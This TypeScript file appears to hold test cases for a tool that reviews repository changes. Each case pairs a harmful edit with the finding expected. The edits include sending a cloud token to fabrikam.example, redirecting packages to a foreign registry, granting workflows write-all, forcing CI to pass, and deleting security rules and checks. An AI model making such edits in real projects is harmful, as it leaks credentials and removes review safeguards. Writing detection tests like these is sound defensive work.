import type { Case, Expected } from "./case.ts";

/** A change that shows in no resource: the file alone is what there is to be told. */
function ofFiles(
  one: Pick<Case, "title" | "class" | "edits"> & { readonly findings: readonly Expected[] } & Partial<
      Pick<Case, "verdict" | "through" | "stacks">
    >,
): Case {
  return { verdict: "unknown", through: [], ...one, kind: "harmful", app: "who-calls" };
}

/** Files that decide, and show in no resource. */
export const files: readonly Case[] = [
  ofFiles({
    title: "the review of a pull request runs with a token that writes",
    class: "files that decide: workflow",
    edits: [
      {
        file: ".github/workflows/pull-request.yml",
        find: "on: pull_request\npermissions: {}",
        replace: "on: pull_request_target\npermissions: write-all",
      },
    ],
    findings: [{ id: "file/pipeline", about: "pull-request.yml" }],
    through: "engine",
  }),
  ofFiles({
    title: "a workflow that nobody has seen",
    class: "files that decide: workflow",
    edits: [
      {
        file: ".github/workflows/mirror.yaml",
        text: "name: mirror\non: pull_request_target\npermissions: write-all\njobs:\n  mirror:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo hello\n",
      },
    ],
    findings: [{ id: "file/pipeline", about: "mirror.yaml" }],
  }),
  ofFiles({
    title: "the upload hands the deployer's token out",
    class: "files that decide: upload script",
    edits: [
      {
        file: "publish.ts",
        find: "  process.stdout.write(`${deployed}\\n`);",
        replace:
          '  await fetch("https://fabrikam.example", { method: "POST", body: await token(`${cloud.resourceManager}/.default`) });\n  process.stdout.write(`${deployed}\\n`);',
      },
    ],
    findings: [{ id: "file/pipeline", about: "publish.ts" }],
  }),
  ofFiles({
    title: "the proof of an upload proves nothing",
    class: "files that decide: upload script",
    edits: [
      {
        file: "azure/one-deploy/upload.ts",
        find: 'throw new PublishFailed("refused", messages.uploadRefused.say(scmHostName, words, wasAccepted));',
        replace: "return undefined;",
      },
    ],
    findings: [{ id: "file/pipeline", about: "azure/one-deploy/upload.ts" }],
  }),
  ofFiles({
    title: "something else is loaded before the program",
    class: "files that decide: Pulumi.yaml",
    edits: [
      {
        file: "Pulumi.yaml",
        find: "nodeargs: --require=./quick-start.cjs",
        replace: "nodeargs: --require=./quick-start.cjs --require=../docs/setup.cjs",
      },
      { file: "docs/setup.cjs", text: 'if (process.env.ARM_USE_OIDC) require("node:child_process");\n' },
    ],
    findings: [{ id: "file/pipeline", about: "Pulumi.yaml" }],
  }),
  ofFiles({
    title: "a script that runs after each installation",
    class: "files that decide: package.json",
    edits: [
      {
        file: "package.json",
        find: '    "start": "exec ./pf start",',
        replace: '    "postinstall": "node docs/postinstall.mjs",\n    "start": "exec ./pf start",',
      },
      { file: "docs/postinstall.mjs", text: "export {};\n" },
    ],
    findings: [{ id: "file/pipeline", about: "package.json" }],
  }),
  ofFiles({
    title: "another archive for a package of the deployer's",
    class: "files that decide: package-lock.json",
    edits: [
      {
        file: "package-lock.json",
        find: '"integrity": "sha512-6FlzubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5xXI6/XXP6tz7R9xAOtHnSO/tXtF3WRTlA=="',
        replace: '"resolved": "https://registry.fabrikam.example/ms-2.1.3.tgz"',
      },
    ],
    findings: [{ id: "file/pipeline", about: "package-lock.json" }],
  }),
  ofFiles({
    title: "packages come from another registry",
    class: "files that decide: .npmrc",
    edits: [{ file: ".npmrc", find: "fund=false", replace: "registry=https://registry.fabrikam.example/\nfund=false" }],
    findings: [{ id: "file/pipeline", about: ".npmrc" }],
  }),
  ofFiles({
    title: "nobody has to look at anything",
    class: "CODEOWNERS change",
    edits: [{ file: ".github/CODEOWNERS", text: "* @contoso/everybody\n" }],
    findings: [{ id: "file/pipeline", about: "CODEOWNERS" }],
  }),
  ofFiles({
    title: "tests that fail are fine",
    class: "files that decide: workflow",
    edits: [{ file: ".ci/run", find: 'exit "$failed"', replace: "exit 0" }],
    findings: [{ id: "file/pipeline", about: ".ci/run" }],
  }),
  ofFiles({
    title: "the organization's policies leave the gate out",
    class: "files that decide: policy pack",
    edits: [
      {
        file: "policy-pack/policies.ts",
        find: "return rules().map(rulePolicy);",
        replace: 'return rules().filter(({ id }) => id !== "explicit-applications").map(rulePolicy);',
      },
    ],
    findings: [{ id: "file/judges", about: "policy-pack/policies.ts" }],
  }),
  ofFiles({
    title: "production's policies only watch, and dev stays as it is",
    class: "another stack's settings",
    edits: [{ file: "Pulumi.prod.yaml", find: "    state: enforced\n", replace: "    state: report-only\n" }],
    verdict: ["weakens", "opens"],
    findings: [{ id: "policy/not-enforced", about: "named locations" }],
    stacks: ["dev", "prod"],
    through: "engine",
  }),
  ofFiles({
    title: "a path is opened, and the rule that would refuse it goes with it",
    class: "the judge itself: deleted rule",
    edits: [
      { file: "infra/rules/rules.ts", find: "    explicitApplications,\n", replace: "" },
      {
        file: "infra/hosting/authentication.ts",
        find: "              defaultAuthorizationPolicy: { allowedApplications: [...args.allowedApplications] },\n",
        replace: "",
      },
    ],
    verdict: ["weakens", "opens"],
    findings: [
      { id: "gate/every-application", about: "" },
      { id: "file/judges", about: "infra/rules/rules.ts" },
    ],
    through: "engine",
  }),
  ofFiles({
    title: "the review always ends well, and compares no gates",
    class: "the judge itself: deleted comparison",
    edits: [
      { file: "commands/review/compare/compare-gate.ts", deleted: true },
      { file: "cli/exit-codes.ts", find: "failed: 1, usage", replace: "failed: 0, usage" },
      {
        file: "infra/hosting/authentication.ts",
        find: "requireHttps: true,",
        replace: "requireHttps: false,",
      },
    ],
    verdict: "weakens",
    findings: [
      { id: "gate/plain-http", about: "" },
      { id: "file/judges", about: "cli/exit-codes.ts" },
      { id: "file/judges", about: "commands/review/compare/compare-gate.ts" },
    ],
    through: "engine",
  }),
  ofFiles({
    title: "no endpoint needs a role, and the check that would tell is gone",
    class: "the judge itself: deleted check",
    edits: [
      { file: "checks/endpoints/protected-endpoints.ts", deleted: true },
      { file: "functions/guard/guard.ts", find: "  demandOneOf(caller, allow);\n", replace: "" },
    ],
    verdict: ["weakens", "opens"],
    findings: [
      { id: ["endpoint/proof-lost", "file/guard"], about: /who-calls|guard/ },
      { id: "file/judges", about: "protected-endpoints.ts" },
    ],
    through: "engine",
  }),
  ofFiles({
    title: "the twin lets everybody in",
    class: "the judge itself: twin made lenient",
    edits: [
      {
        file: "twin/easy-auth/authorization-policy.ts",
        find: "if (allowed === undefined) return true;",
        replace: "return true;",
      },
    ],
    findings: [{ id: "file/judges", about: "twin/easy-auth/authorization-policy.ts" }],
  }),
  ofFiles({
    title: "an app setting that overrides authentication is no longer known as one",
    class: "the judge itself: deleted rule",
    edits: [
      { file: "infra/rules/rules.ts", find: "    noAuthenticationOverride,\n", replace: "" },
      { file: "test/infra/rules/no-authentication-override.test.ts", deleted: true },
    ],
    findings: [{ id: "file/judges", about: "infra/rules/rules.ts" }],
  }),
  ofFiles({
    title: "a link in place of the guard",
    class: "symlink in place of a file",
    edits: [{ file: "functions/guard/demand-gate.ts", linkTo: "../src/who-calls.ts" }],
    findings: [{ id: "file/guard", about: "demand-gate.ts" }],
  }),
  ofFiles({
    title: "what runs before the program reads the login",
    class: "files that decide: Pulumi.yaml",
    edits: [
      {
        file: "infra/quick-start.cjs",
        find: 'const { join } = require("node:path");',
        replace:
          'const { join } = require("node:path");\nif (process.env.ARM_OIDC_TOKEN) require("node:https").get("https://fabrikam.example");',
      },
    ],
    findings: [{ id: ["file/declares", "file/pipeline"], about: "quick-start.cjs" }],
  }),
];
